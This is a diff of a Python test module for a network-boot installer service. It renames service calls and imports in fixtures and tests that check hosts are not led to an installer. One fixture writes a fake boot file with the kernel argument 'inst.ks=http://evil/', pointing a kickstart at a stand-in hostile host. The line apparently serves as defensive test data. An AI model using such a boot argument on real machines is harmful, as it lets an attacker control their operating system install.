@@ -23,9 +23,10 @@ from fixtures.services import (
 from hypothesis import given
 from hypothesis import strategies as st
 
+from netboot.boot.documents import IgnitionPart
 from netboot.boot.firmware.requested_names import document_named
 from netboot.boot.install_moves import Cause
-from netboot.boot.token_documents import IgnitionPart, Refusal
+from netboot.boot.token_documents import Refusal
 from netboot.content.bootfiles.directories import BootFile, BootFiles
 from netboot.model.boot.boot_client import Arch, BootClient, BootProtocol, Stage
 from netboot.model.boot.offer import (
@@ -85,7 +86,7 @@ async def come_to(services: BuiltServices, state: InstallState) -> None:
     await services.install_moves.move(CP1, InstallEvent.OFFER_SENT, cause=Cause())
     if state is not InstallState.OFFERED:
         await services.install_moves.boot_the_installer(
-            services.script_service.hosts.hosts[CP1], draw(services.clock.random_bytes), cause=Cause()
+            services.hosts.hosts[CP1], draw(services.clock.random_bytes), cause=Cause()
         )
     for event in {
         InstallState.INSTALLING: [InstallEvent.REPORTED_STARTED],
@@ -108,9 +109,7 @@ def furnish(services: BuiltServices, unknown: UnknownHosts = UnknownHosts.IGNORE
         (directory / name).write_bytes(pe_image if name.endswith(".efi") else b"linux vmlinuz inst.ks=http://evil/")
     bootfiles = BootFiles([directory])
     policy = Policy(unknown, bootfiles.loaders(), others=bootfiles.other_loaders())
-    services.script_service.use(
-        services.script_service.hosts, policy, documents=services.script_service.documents, bootfiles=bootfiles
-    )
+    services.use(policy=policy, boot_files=bootfiles)
 
 
 async def everything_said(services: BuiltServices) -> AsyncIterator[tuple[str, str]]:
@@ -124,7 +123,7 @@ async def everything_said(services: BuiltServices) -> AsyncIterator[tuple[str, s
         for mac, is_head in itertools.product((MAC, UNKNOWN_MAC), (True, False)):
             plan = await services.script_for(mac, address, is_head=is_head)
             for language in ScriptLanguage:
-                text = services.script_service.documents.script(plan, language, base_url=BASE_URL)
+                text = services.documents.script(plan, language, base_url=BASE_URL)
                 yield f"script of {mac} by {address}", text
 
 
@@ -196,14 +195,9 @@ def test_only_bios_gets_a_loader_to_come_to_its_disk(with_services: WithServices
 def test_neither_does_a_pinned_one(with_services: WithServices, pin: ReplyVariant):
     async def scenario(services: BuiltServices) -> None:
         furnish(services)
-        pinned = [replace(host, firmware=pin, loader="shimx64.efi") for host in services.script_service.hosts]
-        hosts = HostSet.of(services.script_service.hosts.cluster, pinned)
-        services.script_service.use(
-            hosts,
-            services.script_service.policy,
-            documents=services.script_service.documents,
-            bootfiles=services.script_service.bootfiles,
-        )
+        pinned = [replace(host, firmware=pin, loader="shimx64.efi") for host in services.hosts]
+        hosts = HostSet.of(services.hosts.cluster, pinned)
+        services.use(hosts=hosts)
 
         assert [path async for path, what in everything_said(services) if leads_to_an_installer(what)] == []
 
